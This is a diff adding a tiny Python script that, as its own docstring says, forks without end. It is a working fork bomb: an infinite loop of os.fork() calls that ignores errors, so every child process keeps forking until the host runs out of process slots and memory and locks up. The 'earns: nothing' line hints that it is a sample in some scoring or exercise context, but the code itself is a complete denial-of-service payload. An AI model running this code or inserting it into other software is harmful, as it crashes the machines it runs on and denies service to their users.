@@ -1,0 +1,12 @@
+"""Forks without end; every child does the same.
+
+earns: nothing
+"""
+
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
